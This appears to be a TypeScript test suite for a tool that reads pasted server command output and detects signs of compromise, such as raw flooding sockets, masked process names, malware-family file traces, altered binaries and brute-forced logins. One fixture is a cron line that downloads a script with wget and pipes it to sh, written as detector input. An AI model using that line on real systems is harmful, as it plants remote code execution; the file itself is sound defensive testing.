import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test } from 'node:test';
import { hostDocument } from '../../src/hosts/document.ts';
import type { HostDocument } from '../../src/hosts/document.ts';
import { Facts } from '../../src/hosts/facts.ts';
import { readSigns } from '../../src/hosts/signs/read.ts';
import { readPaste } from '../../src/hosts/pastes/read.ts';
import type { Traffic } from '../../src/hosts/traffic/traffic.ts';
import { pastedHost } from '../../src/desk/pasted-host.ts';
import { HOST_NUMBERS, hostNumbersSchema } from '../../src/model/host-numbers.ts';
import { ROOT } from '../support.ts';

function inspect(text: string, remotes: readonly string[] = []): HostDocument {
  const traffic = remotes.map((remote): Traffic => ({ remote, ports: [], now: true }));
  const paste = readPaste(text, 'paste.txt');
  return hostDocument(pastedHost([{ path: 'paste.txt', paste }], '2026-11-30'), traffic);
}

function detectors(text: string): string[] {
  return inspect(text).findings.map(({ detector }) => detector);
}

/** What was posted of a server that sent a flood, addresses and hosts replaced. */
const FLOOD = `[root@ip-192-0-2-10 tmp]# file Lixsyn
Lixsyn: ELF 32-bit LSB executable, Intel 80386, version 1 (SYSV), statically linked, for GNU/Linux 2.2.5, not stripped
[root@ip-192-0-2-10 tmp]#

raw   104832 426240 0.0.0.0:6                   0.0.0.0:*                   7           19719/Lixsyn
raw   104832 228096 0.0.0.0:6                   0.0.0.0:*                   7           19719/Lixsyn

root@ip-192-0-2-10 tmp]# ifconfig
eth0      Link encap:Ethernet  HWaddr ********
          inet addr:******** Bcast:192.0.2.255  Mask:255.255.240.0
          RX packets:1136962 errors:0 dropped:0 overruns:0 frame:0
          TX packets:2081358186 errors:0 dropped:0 overruns:0 carrier:0
          RX bytes:860855089 (820.9 MiB)  TX bytes:2130697820190 (1.9 TiB)
`;

test('three pastes of a flooding server give the process, its raw sockets, the program and the bytes', () => {
  const { findings, gaps } = inspect(FLOOD);
  const [raw, counter, program] = findings;
  assert.equal(raw?.detector, 'raw-socket');
  assert.deepEqual(raw?.subject, { pid: 19719, process: 'Lixsyn' });
  assert.deepEqual(raw?.numbers, { protocol: 6, sockets: 2, bytes_queued: 654_336 });
  assert.deepEqual(raw?.message.params, {
    process: 'Lixsyn',
    pid: 19719,
    sockets: 2,
    protocol: 6,
    others: false,
    queued: 654_336,
  });
  assert.deepEqual(
    raw?.lines.map(({ line }) => line),
    [5, 6],
  );
  assert.equal(counter?.numbers.bytes_sent, 2_130_697_820_190);
  assert.equal(program?.detector, 'temporary-file');
  assert.equal(program?.certainty, 'likely');
  const netstat = gaps.find(({ message }) => message.key === 'hides' && message.params.command === 'netstat');
  assert.ok(netstat?.message.key === 'hides');
  assert.ok(netstat.message.params.unseen.includes('packet sockets'));
  assert.ok(netstat.message.params.next.some(({ shell_line: line }) => line === 'ss -0anp'));
});

test('what ss -tunap and netstat -antp hide is said, with the commands that show it', () => {
  for (const command of ['ss -tunap', 'netstat -antp']) {
    const header =
      command === 'ss -tunap'
        ? 'Netid State Recv-Q Send-Q Local Address:Port Peer Address:PortProcess\ntcp LISTEN 0 128 0.0.0.0:22 0.0.0.0:*\n'
        : 'tcp        0      0 0.0.0.0:22              0.0.0.0:*               LISTEN      1/sshd\n';
    const [gap] = inspect(`root@web-1:~# ${command}\n${header}`).gaps;
    assert.ok(gap?.message.key === 'hides');
    assert.deepEqual(gap.message.params.command, command);
    assert.ok(
      gap.message.params.unseen.includes('raw sockets') && gap.message.params.unseen.includes('ping sockets'),
    );
    assert.ok(gap.message.params.next.some(({ shell_line: line }) => line.includes('w')));
  }
});

test('a command whose output is there too is not asked for again', () => {
  const both = inspect(
    'root@web-1:~# netstat -antp\ntcp 0 0 0.0.0.0:22 0.0.0.0:* LISTEN 1/sshd\n' +
      'root@web-1:~# ss -0anp\np_raw UNCONN 0 0 [2048]:lo * users:(("tcpdump",pid=7,fd=3))\n',
  );
  const [netstat] = both.gaps;
  assert.ok(
    netstat?.message.key === 'hides' &&
      netstat.message.params.next.every(({ shell_line: line }) => line !== 'ss -0anp'),
  );
});

test('outputs of two hosts in one paste are said to be of two', () => {
  const { gaps, hosts } = inspect(
    '[root@web-1 ~]# who\n[root@web-2 ~]# who\nroot     pts/0        2026-11-29 19:20 (203.0.113.5)\n',
  );
  assert.deepEqual(hosts, ['web-1', 'web-2']);
  assert.ok(gaps.some(({ message }) => message.key === 'severalHosts'));
});

test('a kernel thread by name only is found, and real ones are not', () => {
  const rows = (ppid: number): string =>
    `root@web-1:~# ps -eo pid,ppid,user,stat,args\n    PID    PPID USER     STAT COMMAND\n      2       0 root     S    [kthreadd]\n` +
    `     10       2 root     I<   [kworker/0:0H-events_highpri]\n  20011  ${String(ppid).padStart(6)} www-data S    [kworker/0:2]\n  20012       1 root     Z    [ls] <defunct>\n`;
  assert.deepEqual(detectors(rows(1)), ['masked-name']);
  assert.deepEqual(detectors(rows(2)), []);
});

test('a mask is seen below the name that BusyBox puts before it', () => {
  const rows =
    'localhost:~# ps\nPID   USER     TIME  COMMAND\n    1 root      0:00 /sbin/init\n   12 root      0:00 [kworker/0:1-eve]\n' +
    '  812 root      0:00 {sleep} [kworker/0:2] 60\n  813 root      0:00 {openrc} /bin/sh /sbin/openrc default\n' +
    'localhost:~# ls -l /proc/[0-9]*/exe\n' +
    'lrwxrwxrwx    1 root     root             0 Nov 30 01:00 /proc/812/exe -> /bin/busybox\n' +
    'lrwxrwxrwx    1 root     root             0 Nov 30 01:00 /proc/813/exe -> /bin/busybox\n';
  const masked = inspect(rows, []).findings.filter(({ detector }) => detector === 'masked-name');
  assert.deepEqual(
    masked.map(({ subject }) => subject.pid),
    [812],
  );
});

test('a program that is just ending, without a command line any more, is not taken for a false name', () => {
  const rows =
    '$ ps -eo pid,ppid,user,stat,args\n    PID    PPID USER     STAT COMMAND\n      1       0 root     Ss   /sbin/init\n' +
    '  20011       1 root     R    [ip]\n  20012       1 root     S    [rcuos/0]\n';
  const exe = (pid: number, path: string): string =>
    `$ ls -l /proc/[0-9]*/exe\nlrwxrwxrwx 1 root root 0 Nov 30 01:00 /proc/${pid}/exe -> ${path}\n`;
  const pids = (text: string): (number | undefined)[] =>
    inspect(text, [])
      .findings.filter(({ detector }) => detector === 'masked-name')
      .map(({ subject }) => subject.pid);
  assert.deepEqual(pids(rows), [20012]);
  assert.deepEqual(pids(rows + exe(20011, '/usr/bin/perl')), [20011, 20012]);
});

test('which process talks to the address in the notice is told from its socket', () => {
  const text =
    'tcp        0      1 192.0.2.10:40112        203.0.113.5:80          SYN_SENT    4711/update\n' +
    'tcp        0      0 192.0.2.10:40114        203.0.113.9:80          ESTABLISHED 42/curl\n';
  const { findings } = inspect(text, ['203.0.113.5']);
  assert.deepEqual(
    findings.map(({ detector, subject }) => [detector, subject.pid]),
    [['talks-to-claimed', 4711]],
  );
});

test('a family is named when two of its traces agree, and not for one', () => {
  const row = (path: string): string => `-rwxr-xr-x. 1 root root 1223123 2017-12-14 02:01 ${path}\n`;
  assert.deepEqual(detectors(row('/usr/bin/bsd-port/getty')), []);
  const [family] = inspect(row('/usr/bin/bsd-port/getty') + row('/etc/init.d/DbSecuritySpt')).findings;
  assert.deepEqual(family?.message.params, {
    family: 'BillGates',
    signs: ['/etc/init.d/DbSecuritySpt', '/usr/bin/bsd-port/getty'],
  });
});

test('a replaced ss, a preloaded library and a cron line from /tmp are found', () => {
  assert.deepEqual(detectors('??5??????   /usr/bin/ss\n??5?????? c /etc/ssh/sshd_config\n'), [
    'tool-changed',
  ]);
  assert.deepEqual(detectors('*/3 * * * * root /tmp/.x/run\n'), ['odd-start']);
  assert.deepEqual(detectors('* * * * * wget -q -O - http://203.0.113.5/x.sh | sh\n'), ['odd-start']);
});

test('connections that all fail show that the port is cut; a refusal shows nothing', () => {
  const failed = '"Failed to connect to xx.43.xx.162 port 80\n"Failed to connect to 194.xx.xx.48 port 80\n';
  const [cut] = inspect(failed).findings;
  assert.equal(cut?.detector, 'attempts-failed');
  assert.deepEqual(cut?.numbers, { attempts: 2, port: 80 });
  assert.deepEqual(detectors('nc: connect to 203.0.113.5 port 80 (tcp) failed: Connection refused\n'), []);
});

/** Hosts on which nothing is wrong, as their usual commands print them. */
const QUIET: Record<string, string> = {
  'Debian 12 with a DHCP client': `root@debian:~# ss -0anp
Netid State  Recv-Q Send-Q Local Address:Port Peer Address:PortProcess
p_dgr UNCONN 0      0                  *:ens5            *     users:(("dhclient",pid=411,fd=5))
root@debian:~# ss -wanp
State  Recv-Q Send-Q Local Address:Port Peer Address:PortProcess
UNCONN 0      0                  *:58              *:*    users:(("dhclient",pid=502,fd=4))
root@debian:~# ps aux
USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND
root           1  0.0  0.0 168140 13424 ?        Ss   Nov28   0:06 /sbin/init
root           2  0.0  0.0      0     0 ?        S    Nov28   0:00 [kthreadd]
root         640  0.0  0.0  15432  9012 ?        Ss   Nov28   0:00 sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups
root@debian:~# cat /etc/crontab
17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
`,
  'Ubuntu 24.04 with a web server': `ubuntu@web:~$ sudo ss -0anp
Netid State  Recv-Q Send-Q Local Address:Port Peer Address:PortProcess
p_raw UNCONN 0      0             [2048]:ens5            *     users:(("systemd-network",pid=411,fd=17))
ubuntu@web:~$ ifconfig
ens5: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 9001
        inet 192.0.2.10  netmask 255.255.255.0  broadcast 192.0.2.255
        RX packets 91136962  bytes 8608550890 (8.0 GiB)
        TX packets 208135818  bytes 213069782019 (198.4 GiB)
ubuntu@web:~$ ls -l /proc/812/exe
lrwxrwxrwx 1 root root 0 Nov 29 19:20 /proc/812/exe -> '/usr/sbin/nginx (deleted)'
`,
  'Amazon Linux 2023': `[ec2-user@ip-192-0-2-10 ~]$ sudo netstat -anp
raw6       0      0 :::58                   :::*                    7           1902/systemd-networ
udp        0      0 127.0.0.1:323           0.0.0.0:*                           1876/chronyd
[ec2-user@ip-192-0-2-10 ~]$ rpm -Va
S.5....T.  c /etc/ssh/sshd_config
.M.......    /var/log/chrony
`,
};

test('quiet hosts of three distributions give no alarm', () => {
  for (const [name, text] of Object.entries(QUIET)) assert.deepEqual(detectors(text), [], name);
});

test('a process that no list shows, and one that another file system was mounted over, are said each in its own words', () => {
  const facts = new Facts();
  const origin = { evidence: '/proc/self/mountinfo', line: 0, by: 'proc' };
  facts.processes.push({ pid: 19719, hidden: true, origin }, { pid: 19720, covered: true, origin });
  assert.deepEqual(
    readSigns(facts).map(({ detector, message, subject }) => [detector, message.key, subject.pid]),
    [
      ['hidden-process', 'hiddenProcess', 19719],
      ['covered-process', 'coveredProcess', 19720],
    ],
  );
});

test('the reference lists every number of a finding inside a host, with its unit and meaning', async () => {
  const page = await readFile(join(ROOT, 'docs', 'reference', 'host.md'), 'utf8');
  for (const [number, { unit, what }] of Object.entries(HOST_NUMBERS))
    assert.ok(page.includes(`\n| \`${number}\` | ${unit} | ${what} | `), number);
});

test('a number that no finding inside a host declares is refused, even where it came past the compiler', () => {
  assert.deepEqual(hostNumbersSchema.parse({ sockets: 2 }), { sockets: 2 });
  const stray: object = { sockets: 2, sokkets: 2 };
  assert.throws(() => hostNumbersSchema.parse(stray), /sokkets/);
});

test('a login from an address that was refused often is a guessed password, and a slip of the hand is not', () => {
  const refused = (times: number): string =>
    `[root@web-1 ~]# lastb -w\n${'oracle   ssh:notty    203.0.113.9      Sun Nov 29 03:10 - 03:10  (00:00)\n'.repeat(times)}`;
  const login =
    '[root@web-1 ~]# last -w\noracle   pts/0        203.0.113.9      Sun Nov 29 03:12   still logged in\n';
  const [finding] = inspect(refused(12) + login).findings;
  assert.equal(finding?.detector, 'guessed-login');
  assert.deepEqual(finding?.message.params, { user: 'oracle', from: '203.0.113.9', refused: 12 });
  assert.deepEqual(detectors(refused(3) + login), []);
  // A login before the guesses is of somebody who knew the password.
  assert.deepEqual(detectors(refused(12) + login.replace('03:12', '03:04')), []);
  assert.deepEqual(detectors(refused(12) + login.replace('Nov 29', 'Jan  1')), ['guessed-login']);
  assert.deepEqual(detectors(refused(12)), []);
  assert.deepEqual(detectors(refused(12) + login.replace('203.0.113.9 ', '203.0.113.8 ')), []);
});
